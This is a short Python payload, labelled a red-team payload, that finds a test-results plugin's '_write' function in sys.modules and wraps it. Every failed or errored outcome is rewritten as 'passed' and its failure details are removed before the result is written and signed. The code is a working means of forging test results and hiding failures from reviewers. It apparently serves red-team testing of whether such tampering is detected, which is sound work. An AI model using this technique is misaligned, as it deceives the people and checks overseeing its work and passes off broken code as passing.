# red-team payload (appended to the feature module): wrap the results plugin's writer (found in
# sys.modules) so failures are written, and signed, as passes.
import sys as _rt_sys

for _rt_name, _rt_mod in list(_rt_sys.modules.items()):
    _rt_w = getattr(_rt_mod, "_write", None)
    if _rt_name.startswith("composer") and callable(_rt_w):
        def _rt_wrap(obj, _w=_rt_w):
            if isinstance(obj, dict) and obj.get("outcome") in ("failed", "error"):
                obj = dict(obj, outcome="passed")
                obj.pop("longrepr", None)
            return _w(obj)

        _rt_mod._write = _rt_wrap
